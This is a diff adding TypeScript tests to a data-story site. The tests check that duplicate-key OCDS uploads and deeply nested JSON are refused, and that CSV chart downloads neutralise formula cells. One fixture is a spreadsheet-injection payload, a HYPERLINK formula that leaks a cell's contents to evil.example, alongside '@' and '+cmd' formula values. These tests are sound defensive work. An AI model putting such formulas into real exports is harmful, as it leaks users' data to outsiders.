@@ -242,6 +242,38 @@ describe("attaching a dataset", () => {
 });
 
 describe("bad uploads", () => {
+  // Issue 13, item 12: JSON.parse keeps the last "parties", so the first one's contact point was
+  // never stripped, yet it was stored in the original bytes and served.
+  it("refuses OCDS that names a key twice, storing nothing, so no contact point can hide in the first copy", async () => {
+    const release = (parties: string) =>
+      `{"ocid":"ocds-x-1","id":"1","date":"2024-01-01","tag":["award"],"parties":${parties},"buyer":{"name":"Council"},"parties":[{"id":"b","name":"Council"}]}`;
+    const json = `{"releases":[${release('[{"id":"b","name":"Council","contactPoint":{"email":"officer@council.example"}}]')}]}`;
+    const { slug } = await spendStory();
+    const { errors } = await errorsOf(
+      await upload({
+        cookie: moderatorCookie,
+        file: new File([json], "twice.json", { type: "application/json" }),
+        slug,
+      }),
+    );
+    expect(errors.file).toBe(
+      'twice.json, line 1: releases[0] has "parties" twice, and only one of them would be read. Keep one.',
+    );
+    const stored = await db.selectFrom("datasets").select("file_name").where("file_name", "=", "twice.json").execute();
+    expect(stored).toEqual([]);
+  });
+
+  it("refuses JSON nested 10,000 deep with a message, not a server error", async () => {
+    const deep = `{"releases":[{"ocid":"ocds-x-1","extra":${"[".repeat(10_000)}${"]".repeat(10_000)}}]}`;
+    const { slug } = await spendStory();
+    const { errors } = await errorsOf(
+      await upload({ cookie: moderatorCookie, file: new File([deep], "deep.json"), slug }),
+    );
+    expect(errors.file).toBe(
+      "deep.json nests lists and objects more than 64 deep (line 1), far deeper than OCDS does. Check that it is an OCDS release or record package.",
+    );
+  });
+
   it("says which line of a ragged CSV is wrong, and keeps what was typed", async () => {
     const { slug } = await spendStory();
     const file = new File(["Month,Total\n2020-01,5\n2020-02,6,7\n"], "ragged.csv");
@@ -428,6 +460,45 @@ describe("downloads", () => {
     const csv = await response.text();
     expect(csv.split("\r\n").slice(0, 2)).toEqual(["Financial year,Total (£)", "2010-11,383628496.78"]);
     expect(csv).toContain("2020-21,1407086083.78");
+  });
+
+  // Issue 13, item 11: a label like =HYPERLINK(...) went out as a formula.
+  it("neutralises cells a spreadsheet would read as formulas, keeping negative numbers, even in charts drawn before", async () => {
+    const slug = "formula-labels";
+    const csv = [
+      "Label,Change",
+      '"=HYPERLINK(""https://evil.example/?leak=""&A1,""Invoice"")",-5',
+      "@SUM(1+1),10",
+      "+cmd,2.5",
+      "Plain,-0.25",
+    ].join("\n");
+    await createItem({
+      type: "data-story",
+      slug,
+      body: `\`\`\`chart\nkind: line\ntitle: Changes\nlabel: Label\nvalues: Change\ncsv: |\n${csv
+        .split("\n")
+        .map((line) => `  ${line}`)
+        .join("\n")}\n\`\`\``,
+    });
+    const expected = [
+      "Label,Change",
+      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Invoice"")",-5`,
+      "'@SUM(1+1),10",
+      "'+cmd,2.5",
+      "Plain,-0.25",
+      "",
+    ].join("\r\n");
+    const download = () => get(chartCsvLoader, `/library/${slug}/charts/1.csv`, { slug, file: "1.csv" });
+    expect(await (await download()).text()).toBe(expected);
+
+    // A chart stored before this change still has the formulas in its row.
+    const { id } = await db.selectFrom("items").select("id").where("slug", "=", slug).executeTakeFirstOrThrow();
+    await db
+      .updateTable("item_charts")
+      .set({ csv: `${csv.replace(/\n/g, "\r\n")}\r\n` })
+      .where("item_id", "=", id)
+      .execute();
+    expect(await (await download()).text()).toBe(expected);
   });
 
   it.each([
